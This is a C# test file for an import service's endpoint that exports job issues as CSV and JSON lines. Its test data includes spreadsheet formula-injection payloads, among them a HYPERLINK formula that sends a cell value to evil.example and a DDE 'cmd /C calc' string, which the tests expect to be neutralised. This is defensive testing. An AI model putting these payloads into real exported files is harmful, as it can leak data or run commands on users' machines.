using System.Net;
using System.Text;
using System.Text.Json;
using ImportGraph.Jobs;
using ImportGraph.Tests.Hosting;
using Microsoft.VisualBasic.FileIO;

namespace ImportGraph.Tests.Rest;

/// <summary>The issues of a job as a file.</summary>
public sealed class IssueFileTests : IDisposable
{
    private const string Columns = "severity,file,line,key,field,code,message,value";

    private readonly RestApp _app = new([.. TestKey.SettingsOf("web", "ig_web", "imports:read", "web")]);

    /// <summary>Values of a package, as they are and as they must be in a file that a spreadsheet opens.</summary>
    public static TheoryData<string, string> Values => new()
    {
        { "plain", "plain" },
        { "a, b", "a, b" },
        { "a \"quoted\" word", "a \"quoted\" word" },
        { "two\nlines", "two\nlines" },
        { " blank ", " blank " },
        { "Größe 🦆", "Größe 🦆" },
        { "=1+1", "'=1+1" },
        { "=HYPERLINK(\"http://evil.example/\"&A1,\"here\")", "'=HYPERLINK(\"http://evil.example/\"&A1,\"here\")" },
        { "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0" },
        { "-1+1", "'-1+1" },
        { "@SUM(1)", "'@SUM(1)" },
        { "\t=1", "'\t=1" },
        { "\r=1", "'\r=1" },
        { "'=1", "''=1" },
        { "-", "'-" },
        { "-5", "-5" },
        { "+49 170 123", "+49 170 123" },
        { "-1,234.50", "-1,234.50" },
        { "'quoted'", "'quoted'" },
        { "", "" },
    };

    public void Dispose() => _app.Dispose();

    [Fact]
    public async Task The_issues_of_an_import_are_a_CSV_file_that_names_each_item()
    {
        using var app = new TestApp();
        app.Package("package/a.jsonl", """
            {"key":"a","type":"t","title":"T","content":"c"}
            {"key":"b","type":"t","title":"T"}
            {"key":"c","type":"t","title":5,"content":"c"}
            """);
        var job = await app.RunAsync();

        var data = await app.DataAsync("query ($id: ID!) { importStatus(id: $id) { issuesFile { url contentType bytes } } }", new { id = job.Id });

        var file = data.GetProperty("importStatus").GetProperty("issuesFile");
        Assert.Equal($$"""{"url":"/import/jobs/{{job.Id}}/issues.csv","contentType":"text/csv; charset=utf-8","bytes":null}""", file.GetRawText());
        Assert.Equal(
            $"\uFEFF{Columns}\r\nWARNING,a.jsonl,2,b,content,CONTENT_EMPTY,The item has no content.,\r\n"
            + "ERROR,a.jsonl,3,c,title,FIELD_WRONG_TYPE,The field must be a string.,5\r\n",
            Encoding.UTF8.GetString(await app.Http.GetByteArrayAsync(new Uri(file.GetProperty("url").GetString()!, UriKind.Relative))));
    }

    [Theory]
    [MemberData(nameof(Values))]
    public async Task A_CSV_reader_reads_each_value_and_no_spreadsheet_calculates_it(string value, string expected)
    {
        var job = await JobAsync(Issue(value));

        using var answer = await _app.GetAsync(PathOf(job, "csv"));

        using var text = new StreamReader(await answer.Content.ReadAsStreamAsync(), Encoding.UTF8);
        using var csv = new TextFieldParser(text) { Delimiters = [","], HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
        Assert.Equal(Columns.Split(','), csv.ReadFields());
        // This reader writes line breaks in its own way.
        Assert.Equal(
            ["ERROR", "f.csv", "7", "k", "field", "CODE", "Why.", expected.ReplaceLineEndings()],
            csv.ReadFields()!.Select(cell => cell.ReplaceLineEndings()));
        Assert.True(csv.EndOfData);
    }

    [Theory]
    [MemberData(nameof(Values))]
    public async Task A_line_of_JSON_has_each_value_as_it_is(string value, string _)
    {
        var job = await JobAsync(Issue(value), Issue("second") with { Line = null, Field = null });

        using var answer = await _app.GetAsync(PathOf(job, "jsonl"));

        var lines = (await answer.Content.ReadAsStringAsync()).Split('\n');
        Assert.Equal((3, ""), (lines.Length, lines[2]));
        using var first = JsonDocument.Parse(lines[0]);
        Assert.Equal(Columns.Split(','), first.RootElement.EnumerateObject().Select(member => member.Name));
        Assert.Equal((7, value), (first.RootElement.GetProperty("line").GetInt32(), first.RootElement.GetProperty("value").GetString()));
        Assert.Equal(
            """{"severity":"ERROR","file":"f.csv","line":null,"key":"k","field":null,"code":"CODE","message":"Why.","value":"second"}""", lines[1]);
    }

    [Fact]
    public async Task A_job_without_issues_has_a_file_with_a_header_and_GraphQL_names_no_file()
    {
        var job = await _app.ScheduleAsync();

        using var csv = await _app.GetAsync(PathOf(job, "csv"));
        using var lines = await _app.GetAsync(PathOf(job, "jsonl"));
        var data = await _app.DataAsync("query ($id: ID!) { importStatus(id: $id) { issuesFile { url } } }", new { id = job.Id });

        Assert.Equal($"{Columns}\r\n", (await csv.Content.ReadAsStringAsync()).TrimStart('\uFEFF'));
        Assert.Equal("", await lines.Content.ReadAsStringAsync());
        Assert.Equal(JsonValueKind.Null, data.GetProperty("importStatus").GetProperty("issuesFile").ValueKind);
    }

    [Fact]
    public async Task Only_current_issues_are_in_the_file()
    {
        var job = await JobAsync(Issue("earlier"), Issue("now") with { Attempt = 2 });
        await using (var db = _app.OpenDatabase())
        {
            db.Jobs.Single(row => row.Id == job.Id).IssuesFrom = 2;
            await db.SaveChangesAsync();
        }

        using var answer = await _app.GetAsync(PathOf(job, "csv"));

        var body = await answer.Content.ReadAsStringAsync();
        Assert.DoesNotContain("earlier", body, StringComparison.Ordinal);
        Assert.Contains("now", body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(499)]
    [InlineData(500)]
    [InlineData(1001)]
    public async Task Every_issue_is_in_the_file_once_and_in_order(int count)
    {
        var job = await JobAsync([.. Enumerable.Range(0, count).Select(number => Issue($"v{number}"))]);

        using var answer = await _app.GetAsync(PathOf(job, "csv"));

        var rows = (await answer.Content.ReadAsStringAsync()).Split("\r\n")[1..^1];
        Assert.Equal(Enumerable.Range(0, count).Select(number => $"v{number}"), rows.Select(row => row.Split(',')[^1]));
    }

    [Fact]
    public async Task HEAD_has_the_headers_of_a_file_that_a_browser_saves()
    {
        var job = await JobAsync(Issue("value"));

        using var answer = await _app.SendAsync(HttpMethod.Head, PathOf(job, "csv"));

        Assert.Equal(
            (HttpStatusCode.OK, "text/csv; charset=utf-8", $"attachment; filename=issues-{job.Id}.csv; filename*=UTF-8''issues-{job.Id}.csv"),
            (answer.StatusCode, $"{answer.Content.Headers.ContentType}", $"{answer.Content.Headers.ContentDisposition}"));
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("jsonl")]
    public async Task A_job_of_another_project_has_no_file(string extension)
    {
        var job = await JobAsync(Issue("secret"));

        using var answer = await _app.GetAsync(PathOf(job, extension), ("Authorization", "Bearer ig_web"));

        Assert.Equal(HttpStatusCode.NotFound, answer.StatusCode);
        Assert.Contains("404-101", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_parameter_that_would_be_ignored_is_refused()
    {
        var job = await JobAsync(Issue("value"));

        using var answer = await _app.GetAsync($"{PathOf(job, "csv")}?severity=ERROR");

        Assert.Contains("400-109", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    internal static string PathOf(ImportJob job, string extension) => $"/import/jobs/{job.Id}/issues.{extension}";

    internal static StoredIssue Issue(string value) => new(1, "f.csv", 7, "field", value);

    internal static async Task StoreAsync(TestApp app, ImportJob job, IEnumerable<StoredIssue> issues)
    {
        await using var db = app.OpenDatabase();
        db.ChangeTracker.AutoDetectChangesEnabled = false;
        db.Issues.AddRange(issues.Select(issue => new ImportIssue
        {
            JobKey = job.Key,
            Attempt = issue.Attempt,
            Severity = IssueSeverity.Error,
            Code = "CODE",
            Message = "Why.",
            File = issue.File,
            Line = issue.Line,
            ItemKey = "k",
            Field = issue.Field,
            Value = issue.Value,
            ReportedAt = job.CreatedAt,
        }));
        await db.SaveChangesAsync();
    }

    private async Task<ImportJob> JobAsync(params StoredIssue[] issues)
    {
        var job = await _app.ScheduleAsync();
        await StoreAsync(_app, job, issues);
        return job;
    }

    internal sealed record StoredIssue(int Attempt, string File, long? Line, string? Field, string Value);
}
